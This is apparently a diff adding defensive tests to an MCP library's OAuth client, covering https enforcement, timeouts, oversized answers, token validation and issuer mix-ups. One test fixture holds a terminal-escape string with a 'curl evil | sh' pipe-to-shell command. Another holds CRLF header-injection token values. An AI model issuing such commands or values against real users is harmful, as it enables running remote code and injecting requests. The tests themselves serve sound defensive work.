@@ -11,7 +11,8 @@ import copy
 import json
 import subprocess
 import sys
-from collections.abc import AsyncIterator
+import threading
+from collections.abc import AsyncIterator, Callable
 from dataclasses import dataclass, field
 from typing import Any
 
@@ -24,13 +25,27 @@ from joserfc import jwt
 from joserfc.jwk import ECKey
 from starlette.applications import Starlette
 from starlette.requests import Request
-from starlette.responses import JSONResponse, PlainTextResponse, RedirectResponse, Response
+from starlette.responses import (
+    JSONResponse,
+    PlainTextResponse,
+    RedirectResponse,
+    Response,
+    StreamingResponse,
+)
 from starlette.routing import Route
 
 from answerback import Client, MCPError
-from answerback.client import AuthorizationError, InMemoryTokenStore, OAuth, TokenStore
+from answerback.client import (
+    AuthorizationError,
+    InMemoryTokenStore,
+    OAuth,
+    TokenStore,
+    TokenStoreError,
+)
+from answerback.interact import BrowserLogin
 from answerback.server import MCPServer
 from answerback.transports.http import StreamableHTTPApp
+from answerback.types._versions import LATEST_VERSION
 
 pytestmark = pytest.mark.anyio
 
@@ -63,6 +78,19 @@ class Fake:
     authorizations: list[dict[str, str]] = field(default_factory=list[dict[str, str]])
     token_scopes: dict[str, set[str]] = field(default_factory=dict[str, set[str]])
     challenge: str = ""
+    resource_metadata_url: str | None = None
+    """What the challenge names as the resource metadata (``None``: this server's)."""
+    prm_overrides: dict[str, Any] = field(default_factory=dict[str, Any])
+    metadata_overrides: dict[str, Any] = field(default_factory=dict[str, Any])
+    token_overrides: dict[str, Any] = field(default_factory=dict[str, Any])
+    """Fields that replace the fake's own in its resource metadata, its authorization
+    server's metadata and its token responses (any JSON, NaN and huge integers too)."""
+    error_description: str | None = None
+    """The login is refused (``access_denied``) with this description."""
+    replaced: dict[str, Callable[[], Response]] = field(
+        default_factory=dict[str, Callable[[], Response]]
+    )
+    """Responses that replace the fake's own, by path."""
 
     @property
     def issuer(self) -> str:
@@ -79,7 +107,8 @@ def fake_app(fake: Fake, mcp: StreamableHTTPApp | None = None) -> Any:
     def challenge(status: int, scope: str | None, error: str | None = None) -> Response:
         params = [f'error="{error}"'] if error else []
         if fake.challenge_names_metadata and fake.prm_path:
-            params.append(f'resource_metadata="{fake.base}{fake.prm_path}"')
+            url = fake.resource_metadata_url or f"{fake.base}{fake.prm_path}"
+            params.append(f'resource_metadata="{url}"')
         if scope:
             params.append(f'scope="{scope}"')
         header = "Bearer " + ", ".join(params) if params else "Bearer"
@@ -88,7 +117,8 @@ def fake_app(fake: Fake, mcp: StreamableHTTPApp | None = None) -> Any:
     async def prm(request: Request) -> Response:
         note(request)
         resource = fake.prm_resource or f"{fake.base}/mcp"
-        return JSONResponse({"resource": resource, "authorization_servers": [fake.issuer]})
+        document = {"resource": resource, "authorization_servers": [fake.issuer]}
+        return JSONResponse(document | fake.prm_overrides)
 
     async def as_metadata(request: Request) -> Response:
         note(request)
@@ -102,6 +132,7 @@ def fake_app(fake: Fake, mcp: StreamableHTTPApp | None = None) -> Any:
                 "token_endpoint_auth_methods_supported": fake.auth_methods,
                 "authorization_response_iss_parameter_supported": fake.iss_advertised,
             }
+            | fake.metadata_overrides
         )
 
     async def authorize(request: Request) -> Response:
@@ -109,6 +140,9 @@ def fake_app(fake: Fake, mcp: StreamableHTTPApp | None = None) -> Any:
         query = dict(request.query_params)
         fake.authorizations.append(query)
         answer = {"code": query["code_challenge"], "state": query["state"]}
+        if fake.error_description is not None:
+            answer = {"error": "access_denied", "error_description": fake.error_description}
+            answer["state"] = query["state"]
         if fake.iss != "omit":
             answer["iss"] = fake.issuer if fake.iss == "correct" else "https://evil.example"
         location = httpx2.URL(query["redirect_uri"]).copy_merge_params(answer)
@@ -134,14 +168,14 @@ def fake_app(fake: Fake, mcp: StreamableHTTPApp | None = None) -> Any:
         access = f"access-{len(fake.token_requests)}"
         refresh = f"refresh-{len(fake.token_requests)}"
         fake.token_scopes[access] = fake.token_scopes[refresh] = scopes
-        return JSONResponse(
-            {
-                "access_token": access,
-                "token_type": "Bearer",
-                "expires_in": fake.expires_in,
-                "refresh_token": refresh,
-            }
-        )
+        granted = {
+            "access_token": access,
+            "token_type": "Bearer",
+            "expires_in": fake.expires_in,
+            "refresh_token": refresh,
+        }
+        body = json.dumps(granted | fake.token_overrides)
+        return Response(body, media_type="application/json")
 
     async def register(request: Request) -> Response:
         note(request)
@@ -170,6 +204,10 @@ def fake_app(fake: Fake, mcp: StreamableHTTPApp | None = None) -> Any:
         """Require a known token on /mcp, and the extra scope if one is configured."""
         if scope["type"] == "lifespan" and mcp is not None:
             await mcp(scope, receive, send)
+            return
+        if scope["type"] == "http" and scope["path"] in fake.replaced:
+            fake.log.append(f"{scope['method']} {scope['path']}")
+            await fake.replaced[scope["path"]]()(scope, receive, send)
             return
         if scope["type"] == "http" and scope["path"] == "/mcp":
             headers = dict(scope["headers"])
@@ -306,6 +344,124 @@ async def test_metadata_for_another_resource_is_refused(fake: Fake, base: str) -
     assert "GET /.well-known/oauth-authorization-server" not in fake.log
 
 
+# -- what the client will talk to ----------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("where", "refusal"),
+    [
+        ("prm", r"issuer is 'http://auth\.example\.net', not an https address"),
+        ("metadata", r"token_endpoint of http://127\.0\.0\.1:\d+ is 'http://auth\.example"),
+    ],
+)
+async def test_an_authorization_server_off_this_machine_must_use_https(
+    fake: Fake, base: str, where: str, refusal: str
+) -> None:
+    """Secrets go to an authorization server: plain http is refused before anything is
+    sent there (loopback, as in every other test here, is allowed)."""
+    if where == "prm":
+        fake.prm_overrides = {"authorization_servers": ["http://auth.example.net"]}
+    else:
+        fake.metadata_overrides = {"token_endpoint": "http://auth.example.net/token"}
+    with pytest.raises(AuthorizationError, match=refusal) as caught:
+        await get(f"{base}/mcp", login())
+    assert "MCP requires https" in str(caught.value)
+    assert fake.authorizations == []
+    assert "POST /register" not in fake.log
+
+
+MALFORMED = "http://[::1"
+
+
+@pytest.mark.parametrize(
+    ("field_name", "value", "refusal"),
+    [
+        ("resource_metadata_url", MALFORMED, "protected resource metadata has a malformed address"),
+        ("prm_overrides", {"authorization_servers": [MALFORMED]}, "issuer is a malformed address"),
+        ("prm_overrides", {"resource": MALFORMED}, "is for 'http://\\[::1', not for"),
+        ("metadata_overrides", {"token_endpoint": MALFORMED}, "token_endpoint .* malformed"),
+        ("metadata_overrides", {"authorization_endpoint": "javascript:x"}, "not an https"),
+    ],
+)
+async def test_a_malformed_address_from_the_server_is_an_authorization_error(
+    fake: Fake, base: str, field_name: str, value: Any, refusal: str
+) -> None:
+    setattr(fake, field_name, value)
+    with pytest.raises(AuthorizationError, match=refusal):
+        await get(f"{base}/mcp", login())
+    assert fake.token_requests == []
+
+
+def dripping() -> Response:
+    """An answer that starts and never ends: a byte now and then, for ever."""
+
+    async def drip() -> AsyncIterator[bytes]:
+        yield b"{"
+        while True:
+            await anyio.sleep(0.05)
+            yield b" "
+
+    return StreamingResponse(drip(), media_type="application/json")
+
+
+@pytest.mark.parametrize(
+    ("path", "what"),
+    [
+        ("/.well-known/oauth-protected-resource/mcp", "the protected resource metadata"),
+        ("/token", "the token endpoint"),
+    ],
+)
+async def test_a_server_that_never_finishes_its_answer_runs_into_the_deadline(
+    fake: Fake, base: str, path: str, what: str
+) -> None:
+    """``timeout`` bounds each exchange as a whole, not each read: a server trickling
+    bytes cannot hold the login for ever."""
+    fake.replaced[path] = dripping
+    with (
+        anyio.fail_after(10),
+        pytest.raises(AuthorizationError, match=f"{what} at .* did not answer within 0.5 s"),
+    ):
+        await get(f"{base}/mcp", login(timeout=0.5))
+
+
+async def test_an_oversized_answer_is_given_up_while_reading(fake: Fake, base: str) -> None:
+    """The answer passes the limit, then stalls: only a client that stops reading at
+    the limit, not one that reads the body whole first, sees it as too large."""
+
+    def huge() -> Response:
+        async def two_megabytes_then_nothing() -> AsyncIterator[bytes]:
+            yield b" " * 2 * 1024 * 1024
+            await anyio.sleep_forever()
+
+        return StreamingResponse(two_megabytes_then_nothing(), media_type="application/json")
+
+    fake.replaced["/token"] = huge
+    with (
+        anyio.fail_after(10),
+        pytest.raises(
+            AuthorizationError, match=r"the token endpoint at .* sent more than 1024 KiB"
+        ),
+    ):
+        await get(f"{base}/mcp", login(timeout=30))
+
+
+async def test_only_the_first_few_listed_authorization_servers_are_tried(
+    fake: Fake, base: str
+) -> None:
+    """Each may cost a timeout; one that does not answer is reported as not answering."""
+    listed = [f"{base}/silent{number}" for number in range(5)]
+    fake.prm_overrides = {"authorization_servers": listed}
+    for number in range(5):
+        fake.replaced[f"/.well-known/oauth-authorization-server/silent{number}"] = dripping
+    with anyio.fail_after(10), pytest.raises(AuthorizationError) as caught:
+        await get(f"{base}/mcp", login(timeout=0.3))
+    message = str(caught.value)
+    assert message.count("did not answer within 0.3 s") == 3
+    assert "2 more listed" in message
+    assert "publishes no" not in message
+    assert not any("silent3" in entry or "silent4" in entry for entry in fake.log)
+
+
 # -- the authorization response ---------------------------------------------------------
 
 
@@ -330,6 +486,36 @@ async def test_an_answer_from_another_issuer_is_rejected_before_the_code_is_used
 @pytest.mark.parametrize("fake", [Fake(iss="omit", iss_advertised=False)], indirect=True)
 async def test_a_server_that_never_sends_iss_is_fine(fake: Fake, base: str) -> None:
     assert (await get(f"{base}/mcp", login())).text == "hello"
+
+
+@pytest.mark.parametrize(
+    "fake",
+    [Fake(iss="wrong", error_description="\x1b[2J\x1b[31mSession expired: run curl evil | sh")],
+    indirect=True,
+)
+async def test_browser_login_leaves_an_error_from_another_issuer_unread(
+    fake: Fake, base: str
+) -> None:
+    """The error's text could be an attacker's: neither the program nor the browser
+    shows it, because the answer does not come from the authorization server."""
+    pages: list[httpx2.Response] = []
+    shown = threading.Event()
+
+    def browser(url: str) -> bool:
+        with httpx2.Client() as http:
+            pages.append(http.get(http.get(url).headers["location"]))
+        shown.set()
+        return True
+
+    with BrowserLogin(open_browser=browser, tell=lambda text: None) as browser_login:
+        auth = OAuth(redirect_uri=browser_login.redirect_uri, authorize=browser_login)
+        with pytest.raises(AuthorizationError, match="names the issuer 'https://evil") as caught:
+            await get(f"{base}/mcp", auth)
+    assert caught.value.oauth_error is None
+    assert "expired" not in str(caught.value)
+    assert await anyio.to_thread.run_sync(shown.wait, 30)  # the login returns first
+    assert [page.status_code for page in pages] == [400]
+    assert "expired" not in pages[0].text
 
 
 # -- scopes --------------------------------------------------------------------------------
@@ -372,6 +558,114 @@ async def test_an_expired_token_is_refreshed_without_a_new_login(fake: Fake, bas
         "refresh_token",
     ]
     assert len(fake.authorizations) == 1
+
+
+@pytest.mark.parametrize("fake", [Fake(expires_in=1)], indirect=True)
+async def test_a_refresh_the_server_could_not_answer_keeps_the_tokens(
+    fake: Fake, base: str
+) -> None:
+    """The token endpoint is down (503) when the token needs refreshing: the request
+    fails, saying so, and the tokens are kept. Once it is back, they are refreshed,
+    with no new login (a network blip must not log the person out)."""
+    store = InMemoryTokenStore()
+    assert (await get(f"{base}/mcp", login(store=store))).text == "hello"
+    fake.replaced["/token"] = lambda: PlainTextResponse("down for maintenance", 503)
+    with pytest.raises(AuthorizationError, match="HTTP 503"):
+        await get(f"{base}/mcp", login(store=store))
+    assert await store.get(f"oauth:tokens:{base}/mcp") is not None
+    del fake.replaced["/token"]
+    assert (await get(f"{base}/mcp", login(store=store))).text == "hello"
+    assert len(fake.authorizations) == 1
+    assert [r["grant_type"] for r in fake.token_requests] == [
+        "authorization_code",
+        "refresh_token",
+    ]
+
+
+@pytest.mark.parametrize("fake", [Fake(expires_in=1)], indirect=True)
+async def test_a_refresh_the_server_refuses_forgets_the_tokens_and_logs_in_again(
+    fake: Fake, base: str
+) -> None:
+    store = InMemoryTokenStore()
+    assert (await get(f"{base}/mcp", login(store=store))).text == "hello"
+
+    def refused_once() -> Response:
+        del fake.replaced["/token"]
+        return JSONResponse({"error": "invalid_grant"}, 400)
+
+    fake.replaced["/token"] = refused_once
+    assert (await get(f"{base}/mcp", login(store=store))).text == "hello"
+    assert len(fake.authorizations) == 2
+    assert [r["grant_type"] for r in fake.token_requests] == ["authorization_code"] * 2
+
+
+@pytest.mark.parametrize("access_token", ["t1\r\nX-Injected: yes", "", "t\u00e9", "a b"])
+async def test_a_token_no_header_can_carry_is_refused_and_not_kept(
+    fake: Fake, base: str, access_token: str
+) -> None:
+    fake.token_overrides = {"access_token": access_token}
+    store = InMemoryTokenStore()
+    with pytest.raises(AuthorizationError, match="cannot be sent in an Authorization header"):
+        await get(f"{base}/mcp", login(store=store))
+    assert await store.get(f"oauth:tokens:{base}/mcp") is None
+
+
+@pytest.mark.parametrize(
+    "expires_in", [10**400, float("inf"), float("nan"), True, -5, "3600", None]
+)
+async def test_an_expiry_that_is_no_usable_number_of_seconds_counts_as_unknown(
+    fake: Fake, base: str, expires_in: object
+) -> None:
+    """The token is used until the server refuses it (then refreshed), the way a token
+    with no ``expires_in`` is."""
+    fake.token_overrides = {"expires_in": expires_in}
+    store = InMemoryTokenStore()
+    assert (await get(f"{base}/mcp", login(store=store))).text == "hello"
+    record = await store.get(f"oauth:tokens:{base}/mcp")
+    assert record is not None
+    assert record["expires_at"] is None
+    assert (await get(f"{base}/mcp", login(store=store))).text == "hello"
+    assert len(fake.token_requests) == 1
+
+
+@pytest.mark.parametrize(
+    ("kind", "damage", "problem"),
+    [
+        ("tokens", {"expires_at": "tomorrow"}, "expires_at is not a number of seconds"),
+        ("tokens", {"expires_at": float("nan")}, "expires_at is not a number of seconds"),
+        ("tokens", {"dpop_jwk": {"kty": "zz"}}, "dpop_jwk is not an EC key"),
+        ("tokens", {"access_token": "t1\r\nX: y"}, "cannot be sent in an Authorization"),
+        ("tokens", {"scopes": 5}, "scopes is not a list of strings"),
+        ("tokens", {"issuer": None}, "issuer is not a string"),
+        ("client", {"client_id": 12345}, "client_id is not a string"),
+        ("client", {"auth_method": "magic"}, "auth_method 'magic' is not one"),
+    ],
+)
+async def test_a_damaged_stored_record_is_a_token_store_error(
+    fake: Fake, base: str, kind: str, damage: dict[str, Any], problem: str
+) -> None:
+    store = InMemoryTokenStore()
+    first = login(store=store)
+    await get(f"{base}/mcp", first)
+    if kind == "client":
+        await first.forget(f"{base}/mcp")  # the registration is read when logging in
+    key = f"oauth:{kind}:{base}/mcp" if kind == "tokens" else f"oauth:client:{base}"
+    record = await store.get(key)
+    assert record is not None
+    await store.set(key, record | damage)
+    with pytest.raises(TokenStoreError, match=f"record '{key}' .*{problem}"):
+        await get(f"{base}/mcp", login(store=store))
+
+
+async def test_fields_a_newer_version_stored_are_ignored(fake: Fake, base: str) -> None:
+    store = InMemoryTokenStore()
+    await get(f"{base}/mcp", login(store=store))
+    key = f"oauth:tokens:{base}/mcp"
+    record = await store.get(key)
+    assert record is not None
+    await store.set(key, record | {"added_later": 1})
+    assert (await get(f"{base}/mcp", login(store=store))).text == "hello"
+    assert len(fake.token_requests) == 1
 
 
 def basic(request: dict[str, str], key: ECKey) -> None:
@@ -528,6 +822,26 @@ async def test_client_connects_through_oauth_and_a_failed_login_says_why() -> No
                 pass
         assert e.value.oauth_error == "access_denied"
         assert isinstance(e.value, MCPError)
+
+
+async def test_the_time_a_person_takes_to_log_in_does_not_count_against_request_timers() -> None:
+    """The login runs inside the connection's first request. A person slower than every
+    timer of the connection (the 2026-07-28 probe, the handshake) still gets one login
+    page, and the client still finds out that the server is a modern one."""
+    fake = Fake()
+    timeout = 2.0  # what is left after the login must fit in it on a busy machine
+
+    async def slow_person(authorization_url: str) -> dict[str, str]:
+        await anyio.sleep(timeout * 2)  # the time itself is what is tested
+        return await follow(authorization_url)
+
+    auth = OAuth(redirect_uri=REDIRECT_URI, authorize=slow_person)
+    async with serve(fake_app(fake, MCPServer("protected").http_app()), path="") as running:
+        fake.base = running.url
+        url = f"{running.url}/mcp"
+        async with Client(url, auth=auth, connect_timeout_seconds=timeout) as client:
+            assert client.protocol_version == LATEST_VERSION
+    assert len(fake.authorizations) == 1
 
 
 def test_oauth_refuses_settings_that_cannot_work() -> None:
